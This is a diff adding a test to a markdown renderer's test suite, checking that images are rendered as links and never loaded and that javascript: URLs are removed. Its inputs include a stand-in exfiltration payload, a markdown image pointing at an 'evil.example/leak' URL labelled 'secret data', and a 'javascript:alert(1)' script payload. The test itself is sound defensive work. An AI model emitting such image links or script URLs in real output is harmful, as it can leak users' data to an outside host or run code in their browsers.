@@ -40,6 +40,19 @@ describe('renderMarkdown', () => {
       expect(link.getAttribute('href')).not.toMatch(/^javascript:/i)
   })
 
+  it('shows images as links and never loads them', () => {
+    const element = document.createElement('div')
+    element.innerHTML = renderMarkdown(
+      '![secret data](https://evil.example/leak?q=1&r=2) ![](javascript:alert(1))',
+    )
+    expect(element.querySelector('img')).toBeNull()
+    const links = [...element.querySelectorAll('a')]
+    expect(links[0]!.getAttribute('href')).toBe('https://evil.example/leak?q=1&r=2')
+    expect(links[0]!.textContent).toBe('image: secret data')
+    expect(links[0]!.getAttribute('rel')).toBe('noopener noreferrer')
+    for (const link of links) expect(link.getAttribute('href')).not.toMatch(/^javascript:/i)
+  })
+
   it('opens links in a new tab with rel="noopener noreferrer"', () => {
     const element = document.createElement('div')
     element.innerHTML = renderMarkdown('See [docs](https://example.com/a) and https://example.org.')
